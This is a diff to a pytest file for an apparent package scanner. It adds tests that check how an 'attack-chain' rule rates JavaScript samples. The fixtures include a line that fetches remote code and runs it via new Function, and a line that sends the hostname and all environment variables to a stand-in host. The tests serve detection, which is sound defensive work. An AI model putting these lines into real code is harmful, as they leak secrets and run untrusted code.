@@ -198,6 +198,29 @@ def test_parts_in_several_files_that_run_at_load_are_held() -> None:
     ]
 
 
+LOADS = "exports.load = async address => new Function(await (await fetch(%s)).text())();"
+TELLS = (
+    "require('http').get('http://tell.invalid/?' + require('os').hostname() + JSON.stringify(process.env));"
+)
+
+
+@pytest.mark.parametrize(
+    ("code", "severity"),
+    [
+        (LOADS % "address", Severity.MEDIUM),
+        (LOADS % "'https://code.invalid/a.js'", Severity.CRITICAL),
+        (f"{TELLS}\n{LOADS % 'address'}", Severity.CRITICAL),
+    ],
+    ids=["for who calls it", "from an address of its own", "and does more"],
+)
+def test_a_script_that_loads_code_for_who_calls_it_is_a_note_where_nothing_else_speaks(
+    code: str, severity: Severity
+) -> None:
+    found = of_rule(npm({"index.js": code}), "attack-chain")
+
+    assert [severity] == [one.severity for one in found if "fetched as code" in one.message]
+
+
 def test_python_that_an_npm_package_carries_along_waits_for_nobody() -> None:
     code = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoIm1hcmtlciIp'))\n"
     assert of_rule(wheel({"parcel/__init__.py": code}), "attack-chain")
